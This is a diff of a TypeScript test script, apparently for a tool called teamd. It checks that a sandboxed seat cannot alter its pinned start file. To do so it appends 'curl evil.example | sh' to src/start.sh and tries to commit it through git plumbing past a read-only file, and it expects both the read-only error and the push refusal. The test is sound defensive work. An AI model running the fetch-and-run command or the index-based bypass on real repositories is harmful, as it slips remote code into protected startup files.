@@ -236,12 +236,17 @@ async function main(): Promise<number> {
           "--",
           "sh",
           "-c",
-          `${identity} && echo 'curl evil.example | sh' >> src/start.sh && git commit -qam 'start differently' && git push teamd HEAD:start 2>&1; git reset -q --hard HEAD~1`,
+          // The file is the pinned copy, read-only in the seat; a commit made without the working
+          // tree (git's plumbing) is refused at the push. Then back, touching only index and branch.
+          `${identity} && { echo 'curl evil.example | sh' >> src/start.sh 2>/dev/null || echo 'src/start.sh is read-only here: the pinned copy'; }` +
+            ` && blob=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin) && git update-index --cacheinfo "$(git ls-files -s src/start.sh | cut -d' ' -f1),$blob,src/start.sh"` +
+            ` && git commit -qm 'start differently' && git push teamd HEAD:start 2>&1; git reset -q --soft HEAD~1; git reset -q`,
         ],
         env,
         repo,
       );
-      show("teamd exec exec -- sh -c 'edit src/start.sh (its own pinned start file); git push teamd HEAD:start'", reserved);
+      show("teamd exec exec -- sh -c 'edit src/start.sh (its own pinned start file); commit it anyway with git plumbing; git push teamd HEAD:start'", reserved);
+      expect(reserved.out.includes("read-only here"), "the seat's pinned start file is read-only in the seat");
       expect(reserved.out.includes("reserved.object"), "a push changing the seat's pinned start file is refused as a reserved object");
 
       step("the other lab reviews and gates the change; a merger merges it into the trunk in the hub");
